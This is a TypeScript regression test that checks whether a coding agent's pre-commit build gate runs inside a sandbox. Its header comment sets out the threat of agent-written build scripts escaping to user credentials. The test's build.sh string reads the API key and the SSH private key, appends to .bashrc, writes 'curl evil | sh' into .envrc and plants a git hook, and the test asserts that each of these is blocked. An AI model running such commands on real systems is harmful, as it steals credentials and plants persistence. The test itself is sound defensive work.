/**
 * REGRESSION (issue 11, note9 "`pre-commit-check` runs unsandboxed", helper H4): the M4 pre-commit
 * hook runs the lint and build gates on the code being committed — in an agent's worktree the hook
 * fires from the git_commit tool, outside any sandbox — and ran them as the user, with the user's
 * credentials: a build script the agent wrote could append to `~/.bashrc`, plant `.envrc` and a git
 * hook in the checkout, read `~/.ssh` and the model key. Now they run like quality gates.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { resetSandbox, sandboxStatus } from '../src/sandbox/index.js';
import { runCliInProcess } from './support/cli-in-process.js';
import { createTestRepo } from './support/git-repo.js';

const available = (await sandboxStatus()).available;
afterAll(async () => {
  await resetSandbox();
});

const build = [
  'echo "key=${ANTHROPIC_API_KEY:-none}"',
  'cat "$HOME/.ssh/id_ed25519" 2>/dev/null || echo "ssh=denied"',
  'echo "echo PWNED" >> "$HOME/.bashrc" 2>/dev/null || echo "bashrc=denied"',
  'echo "curl evil | sh" > "$REPO/.envrc" 2>/dev/null || echo "envrc=denied"',
  'printf "#!/bin/sh\\necho PWNED\\n" > "$REPO/.git/hooks/post-commit" 2>/dev/null || echo "hook=denied"',
  'mkdir -p node_modules/.bin && echo "echo PWNED" > node_modules/.bin/tsc && echo "bin=written-here"',
  '',
].join('\n');

describe.skipIf(!available)('pre-commit-check runs its gates like quality gates', () => {
  it("the build gate cannot write the user's home or the checkout, and sees no credentials", async () => {
    const repo = await createTestRepo({ files: { 'build.sh': build, 'polywave.config.json': JSON.stringify({ repos: [{ name: 'repo', path: '.' }], build_command: 'sh build.sh' }), '.gitignore': 'node_modules/\n' } });
    const home = repo.sibling('home');
    mkdirSync(path.join(home, '.ssh'), { recursive: true });
    writeFileSync(path.join(home, '.ssh', 'id_ed25519'), 'SSH-PRIVATE-KEY-CANARY\n');
    writeFileSync(path.join(home, '.bashrc'), 'echo original\n');
    const env = { ...(repo.env as Record<string, string>), HOME: home, ANTHROPIC_API_KEY: 'sk-ant-CANARY', REPO: repo.dir };
    const result = await runCliInProcess(['pre-commit-check'], { cwd: repo.dir, env });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('[pre-commit] running build gate: sh build.sh');
    // ~/.bashrc: the home is hidden (X10 N1b), a write lands in the sandbox's private view and is gone with it (checked below)
    for (const line of ['key=none', 'ssh=denied', 'envrc=denied', 'hook=denied', 'bin=written-here']) expect(result.stderr).toContain(line);
    expect(result.stderr).not.toContain('CANARY');
    expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('echo original\n');
    expect(existsSync(repo.path('.envrc'))).toBe(false);
    expect(existsSync(repo.path('.git/hooks/post-commit'))).toBe(false);
    // What it wrote in its own directory was a throwaway checkout's: not in the user's.
    expect(existsSync(repo.path('node_modules/.bin/tsc'))).toBe(false);
  }, 60_000);
});
